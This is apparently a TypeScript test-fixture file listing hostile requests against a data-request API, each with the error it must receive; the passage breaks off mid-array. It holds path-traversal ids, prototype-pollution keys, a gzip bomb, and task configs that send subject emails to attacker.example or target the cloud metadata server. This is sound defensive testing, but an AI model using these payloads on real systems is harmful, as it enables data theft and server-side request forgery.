import { gzipSync } from 'node:zlib';
import type { ErrorCode } from '../../../src/domain/error-codes';
import {
  algNoneToken,
  expiredClaims,
  forwardedToken,
  googleClaims,
  randomKeyToken,
  tokenWithSignature,
  unsignedToken,
} from './tokens';

/**
 * The hostile-input table: what a hostile caller sends, and the clear error it must get, with
 * nothing written. Values known only once the stack runs (ids, tokens, URLs) are read from
 * `Fixtures` when a case is sent.
 */

export type FunctionName = 'api' | 'runTask' | 'dispatch';

/** Local identities (X-Dev-Identity). The suite adds the last four to the policy first. */
export const DEV = 'developer@localhost';
export const APPROVER = 'approver@localhost';
export const AUDITOR = 'auditor@localhost';
export const NOBODY = 'nobody@localhost';
export const REQUESTER = 'requester@localhost';
export const OPERATOR = 'operator@localhost';
export const RECORDS_READER = 'records-reader@localhost';
/** Deployed-mode admin (bound through the policy), for tokens that must be accepted. */
export const DEPLOYED_ADMIN = 'deployed-admin@example.com';
export const DEPLOYED_NOBODY = 'nobody@example.com';

import { INVOKER, SCHEDULER } from '../../../scripts/lib/local-stack';
import { ROLES } from '../../../src/domain/access';

export { INVOKER };
/** The api audience the deployed-mode api is started with. */
export const API_AUDIENCE = 'https://api.hostile.example';

/** Origins the stack allows http.request to call, and the secret bound to the first. */
export const PARTNER = 'https://partner.example';
export const OTHER = 'https://other.example';
export const HOSTILE_ENV: Record<string, string> = {
  HTTP_ALLOWED_ORIGINS: `${PARTNER},${OTHER}`,
  HTTP_SECRET_ORIGINS: JSON.stringify({ PARTNER_TOKEN: [PARTNER] }),
  SECRET_PARTNER_TOKEN: 'hostile-suite-not-a-secret',
};

/** Tasks the suite registers; their identifiers match none of the demo tasks. */
export const TASKS = {
  fail: 'hostile-fail',
  held: 'hostile-held',
  gated: 'hostile-gated',
  http: 'hostile-http',
} as const;

export interface Fixtures {
  /** Filed by developer@localhost; its hostile-gated instance awaits approval. */
  own: string;
  /** Like `own`, for deny cases. */
  denyTarget: string;
  /** Its hostile-fail instance failed; `runId` is that instance's run. */
  failed: string;
  runId: string;
  /** A records request (completed, nothing exported). */
  records: string;
  /** Its hostile-held instance is queued, held back by notBefore. */
  held: string;
  /** Another, left alone by the table, for the verified run-task calls. */
  heldForVerified: string;
  heldTaskVersion: number;
  /** A well-formed id that names no request. */
  unknown: string;
  /** Filed with externalId `EXTERNAL_ID` and subject { plainId: 'ext-a' }. */
  ext: string;
  /** The policy's etag before the suite changed it. */
  staleEtag: string;
  /** The current policy's bindings, for PUT bodies. */
  bindings: unknown;
  runTaskAudience: string;
  dispatchAudience: string;
  emulatorIssuer: string;
  emulatorKid: string;
  /** Tokens the Cloud Tasks emulator really signed. */
  emulatorTokens: {
    runTaskWrongAccount: string;
    runTaskWrongAudience: string;
    dispatchAsInvoker: string;
    apiForAdmin: string;
  };
}

export const EXTERNAL_ID = 'hostile-ext-1';
export const IDEMPOTENCY_KEY = 'hostile-idem-1';

type Lazy<T> = T | ((fx: Fixtures) => T);

/** A body streamed from a small buffer (the 120 MB ones). */
export interface StreamedBody {
  streamedBytes: number;
  chunked: boolean;
}

export interface HostileCase {
  name: string;
  fn: FunctionName;
  method: string;
  /** Sent as is (no normalisation): `%2F`, `..`, bad escapes. */
  path: Lazy<string>;
  /** X-Dev-Identity; default developer@localhost, null sends none. */
  as?: string | null;
  headers?: Lazy<Record<string, string>>;
  body?: Lazy<Buffer> | StreamedBody;
  status: number;
  /** The error code; a list where either answer is correct. */
  code: ErrorCode | readonly ErrorCode[];
  /** An issue must carry this path (a bad parameter is named). */
  issuePath?: string;
  /** The message or an issue must mention this (a repeated query parameter is named). */
  mentions?: string;
  /** Answer within this many ms (oversized bodies are refused before they are read). */
  withinMs?: number;
}

const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value), 'utf8');
const raw = (text: string): Buffer => Buffer.from(text, 'utf8');
const lazy = <T>(value: Lazy<T>, fx: Fixtures): T =>
  typeof value === 'function' ? (value as (fx: Fixtures) => T)(fx) : value;
export const resolve = lazy;

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A valid filing body with the given subject. */
const filing = (subject: Record<string, string>, extra: Record<string, unknown> = {}) => ({
  type: 'deletion',
  subject,
  ...extra,
});

const validTask = (id: string) => ({
  id,
  name: 'A task a hostile caller registers',
  jobType: 'deletion',
  executor: 'noop',
  config: {},
  requiredIdentifiers: ['plainId'],
  active: false,
});

const nested = (depth: number): unknown => {
  let value: unknown = 'deep';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
};

const httpTask = (id: string, config: Record<string, unknown>, extra = {}) => ({
  id,
  name: 'Partner erasure',
  jobType: 'deletion',
  executor: 'http.request',
  config: { method: 'DELETE', ...config },
  active: false,
  ...extra,
});

/** Bad request ids for a path: each must be a 400 naming `id`, before any store call. */
const BAD_REQUEST_IDS: [string, (fx: Fixtures) => string][] = [
  [
    'an encoded-slash path to a run record',
    (fx) => `${fx.failed}%2Finstances%2F${TASKS.fail}%2Fruns%2F${fx.runId}`,
  ],
  ['an encoded-slash path to an instance', (fx) => `${fx.failed}%2Finstances%2F${TASKS.fail}`],
  ['..', () => '..'],
  ['.', () => '.'],
  ['%2E%2E', () => '%2E%2E'],
  ['__x__', () => '__x__'],
  ['a NUL byte', (fx) => `${fx.own}%00`],
  ['upper-case hex', (fx) => fx.own.toUpperCase()],
  ['33 characters', (fx) => `${fx.own}0`],
  ['a bad % escape', () => '%'],
  ['a truncated % escape', () => '%E0%A4%A'],
  ['an encoded lone surrogate (invalid UTF-8)', () => '%ED%A0%80'],
];

/** Request routes and a body that would be valid there; `every` routes get every bad id. */
const REQUEST_ROUTES: {
  verb: string;
  method: string;
  suffix: string;
  body?: Buffer;
  every: boolean;
}[] = [
  { verb: 'get', method: 'GET', suffix: '', every: false },
  { verb: 'approve', method: 'POST', suffix: '/approve', body: json({}), every: true },
  {
    verb: 'deny',
    method: 'POST',
    suffix: '/deny',
    body: json({ reason: 'other', note: 'not this one' }),
    every: false,
  },
  {
    verb: 'verify',
    method: 'POST',
    suffix: '/verify',
    body: json({ method: 'document_check' }),
    every: false,
  },
  {
    verb: 'extend',
    method: 'POST',
    suffix: '/extend',
    body: json({ reason: 'the sources are many' }),
    every: false,
  },
  { verb: 'acknowledge', method: 'POST', suffix: '/acknowledge', body: json({}), every: false },
  { verb: 'cancel', method: 'POST', suffix: '/cancel', every: true },
  { verb: 'runs', method: 'GET', suffix: '/runs', every: true },
  { verb: 'records', method: 'GET', suffix: '/records', every: true },
  { verb: 'records package', method: 'GET', suffix: '/records/package', every: false },
  { verb: 'evidence', method: 'GET', suffix: '/evidence', every: false },
];

/** Not decodable at all: a 400, without asking which parameter the router names. */
const BAD_ESCAPES = new Set([
  'a bad % escape',
  'a truncated % escape',
  'an encoded lone surrogate (invalid UTF-8)',
]);

/** The bad ids the other routes get. */
const CORE_BAD_IDS = new Set([
  'an encoded-slash path to a run record',
  '..',
  '__x__',
  'a bad % escape',
  'an encoded lone surrogate (invalid UTF-8)',
]);

const BAD_TASK_IDS: [string, string][] = [
  ['..', '..'],
  ['.', '.'],
  ['__x__', '__x__'],
  ['an encoded-slash path to a task version', `${TASKS.fail}%2Fversions%2F1`],
  ['an encoded-slash path to a task ledger entry', `${TASKS.fail}%2Fledger%2F000001`],
  ['a bad % escape', '%'],
  ['upper case', 'Hostile-Fail'],
];

function pathInjection(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const [what, id] of BAD_REQUEST_IDS) {
    for (const r of REQUEST_ROUTES) {
      if (!r.every && !CORE_BAD_IDS.has(what)) continue;
      cases.push({
        name: `path: ${r.method} /requests/:id${r.suffix} with ${what}`,
        fn: 'api',
        method: r.method,
        path: (fx) => `/requests/${id(fx)}${r.suffix}`,
        ...(r.body === undefined ? {} : { body: r.body }),
        status: 400,
        code: 'validation_failed',
        ...(BAD_ESCAPES.has(what) ? {} : { issuePath: 'id' }),
      });
    }
    cases.push({
      name: `path: retry /requests/:id/instances/:taskId with ${what} as the request id`,
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${id(fx)}/instances/${TASKS.fail}/retry`,
      body: json({}),
      status: 400,
      code: 'validation_failed',
      ...(BAD_ESCAPES.has(what) ? {} : { issuePath: 'id' }),
    });
  }
  for (const [what, id] of BAD_TASK_IDS) {
    cases.push(
      {
        name: `path: retry with ${what} as the task id`,
        fn: 'api',
        method: 'POST',
        path: (fx) => `/requests/${fx.failed}/instances/${id}/retry`,
        body: json({}),
        status: 400,
        code: 'validation_failed',
        ...(what === 'a bad % escape' ? {} : { issuePath: 'taskId' }),
      },
      {
        name: `path: GET /tasks/:id with ${what}`,
        fn: 'api',
        method: 'GET',
        path: `/tasks/${id}`,
        status: 400,
        code: 'validation_failed',
        ...(what === 'a bad % escape' ? {} : { issuePath: 'id' }),
      },
      {
        name: `path: PATCH /tasks/:id with ${what}`,
        fn: 'api',
        method: 'PATCH',
        path: `/tasks/${id}`,
        body: json({ description: 'changed' }),
        status: 400,
        code: 'validation_failed',
        ...(what === 'a bad % escape' ? {} : { issuePath: 'id' }),
      },
      {
        name: `path: POST /tasks/:id/audit with ${what}`,
        fn: 'api',
        method: 'POST',
        path: `/tasks/${id}/audit`,
        body: json({ subject: { failId: 'x' } }),
        status: 400,
        code: 'validation_failed',
        ...(what === 'a bad % escape' ? {} : { issuePath: 'id' }),
      },
      {
        name: `path: GET /tasks/:id/versions with ${what}`,
        fn: 'api',
        method: 'GET',
        path: `/tasks/${id}/versions`,
        status: 400,
        code: 'validation_failed',
        ...(what === 'a bad % escape' ? {} : { issuePath: 'id' }),
      },
    );
  }
  return cases;
}

function notFound(): HostileCase[] {
  const cases: HostileCase[] = REQUEST_ROUTES.map((r) => ({
    name: `not found: ${r.method} /requests/:id${r.suffix} for an id that names no request`,
    fn: 'api' as const,
    method: r.method,
    path: (fx: Fixtures) => `/requests/${fx.unknown}${r.suffix}`,
    ...(r.body === undefined ? {} : { body: r.body }),
    status: 404,
    code: 'not_found' as const,
  }));
  cases.push(
    {
      name: 'not found: retry for an id that names no request',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.unknown}/instances/${TASKS.fail}/retry`,
      body: json({}),
      status: 404,
      code: 'not_found',
    },
    {
      name: 'not found: retry of a task the request has no instance of',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.failed}/instances/no-such-task/retry`,
      body: json({}),
      status: 404,
      code: 'not_found',
    },
    {
      name: 'not found: PATCH /tasks/:id of no task',
      fn: 'api',
      method: 'PATCH',
      path: '/tasks/no-such-task',
      body: json({ description: 'x' }),
      status: 404,
      code: 'not_found',
    },
    {
      name: 'not found: POST /tasks/:id/audit of no task',
      fn: 'api',
      method: 'POST',
      path: '/tasks/no-such-task/audit',
      body: json({ subject: { plainId: 'x' } }),
      status: 404,
      code: 'not_found',
    },
    {
      name: 'not found: an unknown route',
      fn: 'api',
      method: 'GET',
      path: '/admin',
      status: 404,
      code: 'not_found',
    },
    {
      name: 'not found: a route under a request that does not exist',
      fn: 'api',
      method: 'GET',
      path: (fx) => `/requests/${fx.own}/instances`,
      status: 404,
      code: 'not_found',
    },
  );
  return cases;
}

function methods(): HostileCase[] {
  const m = (method: string, route: string, path: Lazy<string> = route): HostileCase => ({
    name: `method: ${method} ${route}`,
    fn: 'api',
    method,
    path,
    status: 405,
    code: 'method_not_allowed',
  });
  return [
    m('DELETE', '/requests/:id', (fx) => `/requests/${fx.own}`),
    m('PUT', '/requests'),
    m('GET', '/requests/:id/approve', (fx) => `/requests/${fx.own}/approve`),
    m('DELETE', '/tasks/:id', `/tasks/${TASKS.fail}`),
    m('POST', '/healthz'),
    m('DELETE', '/iam/policy'),
  ];
}

function queries(): HostileCase[] {
  const q = (
    name: string,
    query: Lazy<string>,
    code: ErrorCode | readonly ErrorCode[] = 'validation_failed',
    mentions?: string,
  ): HostileCase => ({
    name: `query: ${name}`,
    fn: 'api',
    method: 'GET',
    path: (fx) => `/requests?${lazy(query, fx)}`,
    status: 400,
    code,
    ...(mentions === undefined ? {} : { mentions }),
  });
  const at = '2099-01-01T00:00:00.000Z';
  const cursor = (values: unknown) => `cursor=${b64url(values)}`;
  return [
    q(
      '?status=a&status=a (the filter silently dropped before)',
      'status=a&status=a',
      undefined,
      'status',
    ),
    q('a repeated valid status', 'status=completed&status=completed', undefined, 'status'),
    q('two different statuses', 'status=completed&status=cancelled', undefined, 'status'),
    q('a repeated limit', 'limit=1&limit=1', undefined, 'limit'),
    q('a repeated cursor', 'cursor=a&cursor=b', ['validation_failed', 'invalid_cursor'], 'cursor'),
    q('status[]= (an array)', 'status[]=completed', undefined, 'status'),
    q('status[x]= (an object)', 'status[x]=completed', undefined, 'status'),
    q('a __proto__ parameter', '__proto__[status]=completed'),
    q('a constructor parameter', 'constructor=1'),
    q('limit=0', 'limit=0'),
    q('limit=201', 'limit=201'),
    q('limit=-5', 'limit=-5'),
    q('limit=1.5', 'limit=1.5'),
    q('limit=abc', 'limit=abc'),
    q('overdue=yes', 'overdue=yes'),
    q('a bad % escape in a value', 'status=%'),
    q('a truncated % escape in a value', 'status=%E0%A4%A'),
    q('a bad % escape in a name', '%=1'),
    q('a garbage cursor', 'cursor=garbage', 'invalid_cursor'),
    q('a cursor of JSON null', `cursor=${b64url(null)}`, 'invalid_cursor'),
    q('a cursor of the wrong length', cursor([at]), 'invalid_cursor'),
    q('a cursor naming iam/policy', cursor([at, 'iam/policy']), 'invalid_cursor'),
    q('a cursor naming a collection', cursor([at, 'requests']), 'invalid_cursor'),
    q(
      'a cursor naming an instance document',
      (fx) => cursor([at, `requests/${fx.own}/instances/${TASKS.gated}`]),
      'invalid_cursor',
    ),
    q('a cursor with a .. path', cursor([at, 'requests/../iam/policy']), 'invalid_cursor'),
    q('a cursor naming __x__', cursor([at, '__x__/y']), 'invalid_cursor'),
    q('a cursor with an empty path', cursor([at, '']), 'invalid_cursor'),
    q('a cursor holding an object', cursor([{ $gt: '' }, 'requests/x']), 'invalid_cursor'),
    q('a 600-character cursor', `cursor=${'A'.repeat(600)}`, [
      'validation_failed',
      'invalid_cursor',
    ]),
    {
      name: 'query: a forged records pageToken naming another path',
      fn: 'api',
      method: 'GET',
      path: (fx) =>
        `/requests/${fx.records}/records?pageToken=${b64url(['crm-contact-export', '../../../iam/policy', 0])}`,
      status: 400,
      code: ['validation_failed', 'invalid_cursor'],
    },
    ...reportQueries(),
    {
      name: 'query: a garbage records pageToken',
      fn: 'api',
      method: 'GET',
      path: (fx) => `/requests/${fx.records}/records?pageToken=garbage`,
      status: 400,
      code: ['validation_failed', 'invalid_cursor'],
    },
    {
      name: 'query: a repeated records pageSize',
      fn: 'api',
      method: 'GET',
      path: (fx) => `/requests/${fx.records}/records?pageSize=1&pageSize=2`,
      status: 400,
      code: 'validation_failed',
      mentions: 'pageSize',
    },
  ];
}

/** The regulator reports' parameters: each a 400 naming the parameter, nothing read or written. */
function reportQueries(): HostileCase[] {
  const r = (name: string, path: string, mentions?: string): HostileCase => ({
    name: `query: ${name}`,
    fn: 'api',
    method: 'GET',
    path,
    status: 400,
    code: 'validation_failed',
    ...(mentions === undefined ? {} : { mentions }),
  });
  const csv = '/reports/requests.csv';
  const metrics = '/reports/metrics';
  return [
    r('a report range with `to` before `from`', `${csv}?from=2026-06-01&to=2026-01-01`),
    r('a report range over 3 years', `${csv}?from=2020-01-01&to=2026-01-02`),
    r('a report without `to`', `${csv}?from=2026-01-01`, 'to'),
    r('a repeated report `from`', `${csv}?from=2026-01-01&from=2025-01-01&to=2026-02-01`, 'from'),
    r('a report `from` of __proto__', `${csv}?from=__proto__&to=2026-02-01`, 'from'),
    r('a report `from[]=` (an array)', `${csv}?from[]=2026-01-01&to=2026-02-01`, 'from'),
    r('a bad % escape in a report date', `${csv}?from=%&to=2026-02-01`),
    r(
      'a report `from` with a +99:00 offset (was a 500)',
      `${csv}?from=2026-01-01T00:00:00%2B99:00&to=2026-02-01`,
      'from',
    ),
    r('metrics for year=abc', `${metrics}?year=abc`, 'year'),
    r('metrics for year=1999', `${metrics}?year=1999`, 'year'),
    r('metrics for a repeated year', `${metrics}?year=2026&year=2025`, 'year'),
    r('metrics for an unknown regulation', `${metrics}?year=2026&regulation=hipaa`, 'regulation'),
    r('metrics in an unknown format', `${metrics}?year=2026&format=xml`, 'format'),
  ];
}

/** POST /requests bodies a hostile caller sends. */
function intake(): HostileCase[] {
  const post = (
    name: string,
    body: Lazy<Buffer>,
    status = 400,
    code: ErrorCode | readonly ErrorCode[] = 'validation_failed',
    extra: Partial<HostileCase> = {},
  ): HostileCase => ({
    name: `intake: ${name}`,
    fn: 'api',
    method: 'POST',
    path: '/requests',
    body,
    status,
    code,
    ...extra,
  });
  const inherited = [
    'constructor',
    'toString',
    '__proto__',
    'hasOwnProperty',
    'valueOf',
    'isPrototypeOf',
    'propertyIsEnumerable',
    'toLocaleString',
    '__defineGetter__',
    '__lookupSetter__',
  ];
  return [
    // zod's date-time pattern takes any two-digit offset; +99:00 is no instant (was a 500).
    post(
      'receivedAt with a +99:00 offset',
      json({
        type: 'deletion',
        subject: { email: 'x@example.com' },
        receivedAt: '2026-01-01T00:00:00+99:00',
      }),
    ),
    ...inherited.map((name) =>
      post(
        `identifier name ${name}`,
        raw(`{"type":"deletion","subject":{"${name}":"x@example.com"}}`),
      ),
    ),
    post(
      'a lone high surrogate in an identifier',
      raw('{"type":"deletion","subject":{"plainId":"\\ud800"}}'),
    ),
    post(
      'a lone low surrogate inside an identifier',
      raw('{"type":"deletion","subject":{"plainId":"a\\udfffb"}}'),
    ),
    post(
      'a lone surrogate in notes',
      raw('{"type":"deletion","subject":{"plainId":"n-1"},"notes":"\\udc00"}'),
    ),
    post(
      'a lone surrogate as an identifier name',
      raw('{"type":"deletion","subject":{"\\ud800":"x"}}'),
    ),
    post(
      'a lone surrogate in externalId',
      raw('{"type":"deletion","subject":{"plainId":"n-1"},"externalId":"\\ud800"}'),
    ),
    post('a full-width identifier name', json(filing({ ｅmail: 'x@example.com' }))),
    post(
      'an identifier name with a NUL',
      raw('{"type":"deletion","subject":{"email\\u0000":"x"}}'),
    ),
    post('a nested identifier value', json({ type: 'deletion', subject: { plainId: nested(25) } })),
    post(
      '21 identifiers',
      json(filing(Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`id${i}`, 'x'])))),
    ),
    post(
      'a __proto__ top-level key',
      raw('{"type":"deletion","subject":{"plainId":"p"},"__proto__":{"dryRun":true}}'),
    ),
    post('30 000 nested arrays', raw(`${'['.repeat(30_000)}${']'.repeat(30_000)}`)),
    post('a body of JSON null', raw('null')),
    post('a body of a JSON string', raw('"deletion"')),
    post('a body of a JSON number', raw('42')),
    post('a body of a JSON array', raw('[]')),
    post('malformed JSON', raw('{"type": "deletion",')),
    post('an externalId with a slash', json(filing({ plainId: 'e-1' }, { externalId: 'a/b' }))),
    post(
      'the same externalId with a different subject',
      json(filing({ plainId: 'ext-b' }, { externalId: EXTERNAL_ID })),
      409,
      'external_id_conflict',
    ),
    post(
      'the same externalId with a different type',
      json({ type: 'records', subject: { plainId: 'ext-a' }, externalId: EXTERNAL_ID }),
      409,
      'external_id_conflict',
    ),
    post(
      'the same externalId with a different regulation',
      json(filing({ plainId: 'ext-a' }, { externalId: EXTERNAL_ID, regulation: 'ccpa' })),
      409,
      'external_id_conflict',
    ),
    post(
      'the same externalId from another caller with a different subject',
      json(filing({ plainId: 'ext-c' }, { externalId: EXTERNAL_ID })),
      409,
      'external_id_conflict',
      { as: REQUESTER },
    ),
    post(
      'the same Idempotency-Key with a different subject',
      json(filing({ plainId: 'idem-b' })),
      409,
      'idempotency_key_conflict',
      { headers: { 'Idempotency-Key': IDEMPOTENCY_KEY } },
    ),
    ...[
      ['a slash', 'a/b'],
      ['..', '../..'],
      ['129 characters', 'k'.repeat(129)],
      ['a space', 'a b'],
      ['a % escape', '%2F'],
      ['a Latin-1 letter', 'caf\u00e9'],
      ['a tab', 'a\tb'],
    ].map(([what, key]) =>
      post(
        `an Idempotency-Key with ${what}`,
        json(filing({ plainId: 'idem-x' })),
        400,
        'validation_failed',
        {
          headers: { 'Idempotency-Key': key ?? '' },
          issuePath: 'headers.Idempotency-Key',
        },
      ),
    ),
    post(
      'a form-encoded filing (a cross-site form post)',
      raw('type=deletion&subject[plainId]=csrf-1'),
      400,
      'validation_failed',
      { headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    ),
    post(
      'a text/plain filing (a cross-site simple request)',
      json(filing({ plainId: 'csrf-2' })),
      400,
      'validation_failed',
      { headers: { 'content-type': 'text/plain' } },
    ),
  ];
}

/** Bytes that are not UTF-8, inside an otherwise valid JSON body. */
const INVALID_UTF8: [string, Buffer][] = [
  ['0xFF', Buffer.from([0xff])],
  ['an overlong "/" (C0 AF)', Buffer.from([0xc0, 0xaf])],
  ['an encoded surrogate (ED A0 80)', Buffer.from([0xed, 0xa0, 0x80])],
  ['a truncated sequence (E2 82)', Buffer.from([0xe2, 0x82])],
  ['FE FF', Buffer.from([0xfe, 0xff])],
];

const withBytes = (before: string, bytes: Buffer, after: string) =>
  Buffer.concat([raw(before), bytes, raw(after)]);

function encodings(): HostileCase[] {
  const cases: HostileCase[] = INVALID_UTF8.map(([what, bytes]) => ({
    name: `utf-8: ${what} in an identifier`,
    fn: 'api' as const,
    method: 'POST',
    path: '/requests',
    body: withBytes('{"type":"deletion","subject":{"plainId":"', bytes, '"}}'),
    status: 400,
    code: 'invalid_utf8' as const,
  }));
  const bad = INVALID_UTF8[0]?.[1] ?? Buffer.from([0xff]);
  cases.push(
    {
      name: 'utf-8: 0xFF in a task name (POST /tasks)',
      fn: 'api',
      method: 'POST',
      path: '/tasks',
      body: withBytes(
        '{"id":"utf8-task","name":"',
        bad,
        '","jobType":"deletion","executor":"noop"}',
      ),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'utf-8: 0xFF in PATCH /tasks/:id',
      fn: 'api',
      method: 'PATCH',
      path: `/tasks/${TASKS.fail}`,
      body: withBytes('{"description":"', bad, '"}'),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'utf-8: 0xFF in a deny reason',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: APPROVER,
      body: withBytes('{"reason":"', bad, '"}'),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'utf-8: 0xFF in PUT /iam/policy',
      fn: 'api',
      method: 'PUT',
      path: '/iam/policy',
      body: withBytes('{"bindings":[],"etag":"', bad, '"}'),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'utf-8: 0xFF in a text/plain body',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      headers: { 'content-type': 'text/plain' },
      body: withBytes('{"type":"deletion","subject":{"plainId":"', bad, '"}}'),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'utf-8: 0xFF in an application/octet-stream body',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      headers: { 'content-type': 'application/octet-stream' },
      body: withBytes('{"type":"deletion","subject":{"plainId":"', bad, '"}}'),
      status: 400,
      code: 'invalid_utf8',
    },
  );
  return cases;
}

function sizes(): HostileCase[] {
  const padded = (bytes: number) =>
    raw(`{"type":"deletion","subject":{"plainId":"s"},"notes":"${'x'.repeat(bytes)}"}`);
  const bomb = gzipSync(
    raw(`{"type":"deletion","subject":{"plainId":"s"},"notes":"${'0'.repeat(10 * 2 ** 20)}"}`),
  );
  return [
    {
      name: 'size: 64 KiB + 1 byte',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      body: Buffer.concat([padded(64 * 1024 - 60), raw(' '.repeat(100))]).subarray(
        0,
        64 * 1024 + 1,
      ),
      status: 413,
      code: 'payload_too_large',
    },
    {
      name: 'size: ~1 MB on api',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      body: padded(2 ** 20),
      status: 413,
      code: 'payload_too_large',
    },
    {
      name: 'size: 120 MB with Content-Length, refused before it is read',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      body: { streamedBytes: 120 * 2 ** 20, chunked: false },
      status: 413,
      code: 'payload_too_large',
      withinMs: 5000,
    },
    {
      name: 'size: 120 MB chunked, refused at the limit',
      fn: 'api',
      method: 'POST',
      path: '/tasks',
      body: { streamedBytes: 120 * 2 ** 20, chunked: true },
      status: 413,
      code: 'payload_too_large',
      withinMs: 10_000,
    },
    {
      name: 'size: a gzip bomb (10 MB inflated)',
      fn: 'api',
      method: 'POST',
      path: '/requests',
      headers: { 'content-encoding': 'gzip' },
      body: bomb,
      status: 413,
      code: 'payload_too_large',
    },
    {
      name: 'size: ~1 MB on runTask',
      fn: 'runTask',
      method: 'POST',
      path: '/',
      body: padded(2 ** 20),
      status: 413,
      code: 'payload_too_large',
    },
    {
      name: 'size: ~1 MB on dispatch',
      fn: 'dispatch',
      method: 'POST',
      path: '/',
      body: padded(2 ** 20),
      status: 413,
      code: 'payload_too_large',
    },
  ];
}

function tasks(): HostileCase[] {
  const reg = (
    name: string,
    body: Lazy<Buffer>,
    status = 400,
    code: ErrorCode | readonly ErrorCode[] = 'validation_failed',
    extra: Partial<HostileCase> = {},
  ): HostileCase => ({
    name: `registry: ${name}`,
    fn: 'api',
    method: 'POST',
    path: '/tasks',
    body,
    status,
    code,
    ...extra,
  });
  const patch = (name: string, id: string, body: unknown): HostileCase => ({
    name: `registry: ${name}`,
    fn: 'api',
    method: 'PATCH',
    path: `/tasks/${id}`,
    body: Buffer.isBuffer(body) ? body : json(body),
    status: 400,
    code: 'validation_failed',
  });
  const taskRaw = (id: string, executor: string, config: string, extra = '') =>
    raw(
      `{"id":"${id}","name":"x","jobType":"deletion","executor":"${executor}","config":${config}${extra},"active":false}`,
    );
  return [
    reg(
      'a records task with bigquery.delete',
      json({
        ...validTask('records-that-deletes'),
        jobType: 'records',
        executor: 'bigquery.delete',
        config: { table: 'warehouse.events', column: 'user_id', identifier: 'userId' },
        requiredIdentifiers: ['userId'],
      }),
    ),
    reg(
      'a records task with bigquery.nullify',
      json({
        ...validTask('records-that-nullifies'),
        jobType: 'records',
        executor: 'bigquery.nullify',
        config: {
          table: 'warehouse.entries',
          columns: ['owner_email'],
          whereColumn: 'owner_id',
          identifier: 'userId',
        },
        requiredIdentifiers: ['userId'],
      }),
    ),
    reg(
      'a records task with http.request DELETE',
      json(
        httpTask(
          'records-http-delete',
          { url: `${PARTNER}/u/{{subject.email}}` },
          { jobType: 'records' },
        ),
      ),
    ),
    reg(
      'a deletion task with bigquery.export',
      json({
        ...validTask('deletion-that-exports'),
        executor: 'bigquery.export',
        config: { table: 'warehouse.contacts', column: 'email', identifier: 'email' },
        requiredIdentifiers: ['email'],
      }),
    ),
    reg(
      'http.request to a non-allowlisted origin',
      json(httpTask('http-attacker', { url: 'https://attacker.example/u/{{subject.email}}' })),
    ),
    reg(
      'http.request with the allowed origin as userinfo',
      json(
        httpTask('http-userinfo', {
          url: `https://partner.example@attacker.example/u/{{subject.email}}`,
        }),
      ),
    ),
    reg(
      'http.request to a subdomain trick',
      json(
        httpTask('http-subdomain', {
          url: 'https://partner.example.attacker.example/u/{{subject.email}}',
        }),
      ),
    ),
    reg(
      'http.request over http to an https origin',
      json(httpTask('http-scheme', { url: 'http://partner.example/u/{{subject.email}}' })),
    ),
    reg(
      'http.request to another port',
      json(httpTask('http-port', { url: 'https://partner.example:8443/u/{{subject.email}}' })),
    ),
    reg(
      'http.request to the metadata server',
      json(
        httpTask('http-metadata', {
          url: 'http://169.254.169.254/computeMetadata/v1/?u={{subject.email}}',
        }),
      ),
    ),
    reg(
      'http.request with the subject in the host',
      json(httpTask('http-host-template', { url: 'https://{{subject.email}}.attacker.example/' })),
    ),
    reg(
      'a secret header bound to another origin',
      json(
        httpTask('http-secret-elsewhere', {
          url: `${OTHER}/u/{{subject.email}}`,
          headers: { Authorization: { secret: 'PARTNER_TOKEN' } },
        }),
      ),
    ),
    reg(
      'a secret header bound to no origin',
      json(
        httpTask('http-secret-unbound', {
          url: `${PARTNER}/u/{{subject.email}}`,
          headers: { Authorization: { secret: 'UNBOUND_TOKEN' } },
        }),
      ),
    ),
    patch('PATCH an http.request task to a non-allowlisted origin', TASKS.http, {
      config: { url: 'https://attacker.example/u/{{subject.email}}', method: 'DELETE' },
    }),
    patch('PATCH an http.request task to send its secret elsewhere', TASKS.http, {
      config: {
        url: `${OTHER}/u/{{subject.email}}`,
        method: 'DELETE',
        headers: { Authorization: { secret: 'PARTNER_TOKEN' } },
      },
    }),
    patch('PATCH a deletion task (http DELETE) into a records task', TASKS.http, {
      jobType: 'records',
    }),
    patch('PATCH a bigquery.delete task into a records task', 'warehouse-events-delete', {
      jobType: 'records',
    }),
    patch('PATCH a records task onto bigquery.delete', 'warehouse-contacts-export', {
      executor: 'bigquery.delete',
      config: { table: 'warehouse.contacts', column: 'email', identifier: 'email' },
    }),
    reg('a task id __x__', json(validTask('__x__'))),
    reg('a task id ..', json(validTask('..'))),
    reg('a task id with a slash', json(validTask('a/b'))),
    reg('a task id that exists', json(validTask(TASKS.fail)), 409, 'task_exists'),
    reg(
      'requiredIdentifiers [constructor]',
      json({ ...validTask('req-constructor'), requiredIdentifiers: ['constructor'] }),
    ),
    reg(
      'requiredIdentifiers [toString]',
      json({ ...validTask('req-tostring'), requiredIdentifiers: ['toString'] }),
    ),
    reg(
      'requiredIdentifiers [__proto__]',
      json({ ...validTask('req-proto'), requiredIdentifiers: ['__proto__'] }),
    ),
    reg(
      'a config key __proto__ (noop)',
      taskRaw('cfg-proto', 'noop', '{"__proto__":{"polluted":true}}'),
    ),
    reg(
      'a config key constructor (demo.sleep)',
      taskRaw('cfg-constructor', 'demo.sleep', '{"ms":1,"constructor":{"prototype":{}}}'),
